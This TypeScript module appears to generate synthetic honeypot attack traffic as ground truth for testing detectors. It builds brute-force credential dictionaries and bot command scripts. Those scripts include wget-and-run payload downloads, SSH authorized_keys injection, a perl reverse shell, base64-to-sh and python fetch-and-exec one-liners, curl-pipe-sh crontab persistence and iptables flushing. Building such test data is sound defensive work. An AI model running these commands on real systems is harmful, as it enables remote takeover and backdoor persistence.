import type { BackgroundProfile } from './background-profile.js';
import type { Distinctiveness } from './ground-truth.js';
import type { Rng } from './prng.js';

/** Share of a snowshoe dictionary made of pairs nobody else uses, per level. */
export const RARE_SHARE: Record<Distinctiveness, number> = { high: 1, medium: 0.5, low: 0.25 };

const WORDS = ['harbor', 'falcon', 'cedar', 'orbit', 'quartz', 'ember', 'nimbus', 'talon', 'vortex', 'willow', 'zephyr', 'atlas', 'cobalt', 'delta', 'onyx'];
const USERS = ['root', 'admin', 'ubuntu', 'deploy', 'git', 'postgres', 'oracle', 'ftpuser', 'test', 'user1', 'support', 'jenkins', 'dev', 'backup', 'www-data', 'es', 'hadoop', 'minecraft'];

/**
 * A snowshoe dictionary: `size` pairs, `RARE_SHARE[level]` of them invented for this campaign,
 * the rest drawn from the background's common pairs (so the campaign is not given away by them).
 *
 * @example
 * ```ts
 * snowshoeDictionary(rng, DEFAULT_BACKGROUND, 'medium', 16);
 * ```
 */
export function snowshoeDictionary(rng: Rng, bg: BackgroundProfile, level: Distinctiveness, size: number): Array<{ username: string; password: string }> {
  const rare = Math.round(size * RARE_SHARE[level]);
  const word = rng.pick(WORDS) + rng.int(10, 99);
  const invented = Array.from({ length: rare }, (_, i) => {
    const u = USERS[(i + rng.int(0, USERS.length - 1)) % USERS.length]!;
    const styles = [`${word}!${u}`, `${u}@${word}`, `${word}#${rng.int(100, 999)}`, `${u.slice(0, 3)}${word}${rng.int(1, 9)}`];
    return { username: u, password: rng.pick(styles) };
  });
  const common = rng.sample(bg.credentials.slice(0, 40), size - rare);
  return [...invented, ...common];
}

/**
 * A bot script: recon, then fetch-and-run from a family-specific host, sometimes an SSH key
 * injection. Distinct per family (host, file names), alike across the family's IPs.
 *
 * @example
 * ```ts
 * const { commands, downloads } = botScript(rng, 'fam1', true);
 * ```
 */
export function botScript(rng: Rng, family: string, withKey: boolean): { commands: string[]; downloads: Array<{ url: string; shasum: string }>; key: string | null } {
  const host = `${rng.int(11, 199)}.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
  const file = rng.pick(['bins.sh', 'x86', 'sshd', 'kworker', '.s', 'update.sh']) + (rng.bool(0.5) ? `_${family}` : '');
  const url = `http://${host}/${file}`;
  const recon = rng.sample(['uname -a', 'cat /proc/cpuinfo | grep name | wc -l', 'free -m', 'whoami', 'nproc', 'lscpu | grep Model', 'w', 'crontab -l', 'uname -m', 'cat /etc/issue'], rng.int(2, 4));
  const commands = [...recon, `cd /tmp && wget ${url} && chmod +x ${file} && ./${file}`];
  const key = withKey ? sshRsaKey(rng, `${family}@bot`) : null;
  if (key) commands.push(`cd ~ && rm -rf .ssh && mkdir .ssh && echo "${key}" >> .ssh/authorized_keys && chmod -R go= ~/.ssh`);
  return { commands, downloads: [{ url, shasum: rng.hex(64) }], key };
}

/** A well-formed (random) `ssh-rsa` public key line: the wire blob is valid, the key is nobody's. */
export function sshRsaKey(rng: Rng, comment: string): string {
  const bytes: number[] = [];
  const str = (b: number[]) => bytes.push((b.length >>> 24) & 255, (b.length >>> 16) & 255, (b.length >>> 8) & 255, b.length & 255, ...b);
  str([...'ssh-rsa'].map((c) => c.charCodeAt(0)));
  str([1, 0, 1]);
  str([0, ...Array.from({ length: 256 }, (_, i) => (i === 0 ? 0x80 | rng.int(0, 127) : rng.int(0, 255)))]);
  return `ssh-rsa ${btoa(String.fromCharCode(...bytes))} ${comment}`;
}

/** Novel commands of the kinds a longtail detector should surface (encoded blobs, reverse shells, …). */
export function novelCommands(rng: Rng): { what: string; commands: string[] } {
  const blob = btoa(Array.from({ length: rng.int(120, 300) }, () => String.fromCharCode(rng.int(32, 126))).join(''));
  const host = `${rng.int(11, 199)}.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`;
  const kinds = [
    { what: 'base64 payload piped to sh', commands: ['uname -a', `echo ${blob} | base64 -d | sh`] },
    { what: 'perl reverse shell', commands: [`perl -e 'use Socket;$i="${host}";$p=${rng.int(1000, 9999)};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");'`] },
    { what: 'python fetch-and-exec', commands: ['id', `python3 -c "import urllib.request as u;exec(u.urlopen('http://${host}/s.py').read())"`] },
    { what: 'crontab persistence', commands: [`(crontab -l 2>/dev/null; echo "*/${rng.int(2, 9)} * * * * curl -fsSL http://${host}/c.sh | sh") | crontab -`, 'history -c'] },
    { what: 'kernel module and iptables tampering', commands: ['lsmod', `insmod /tmp/.${rng.hex(6)}.ko`, 'iptables -F && iptables -P INPUT ACCEPT'] },
  ];
  return rng.pick(kinds);
}
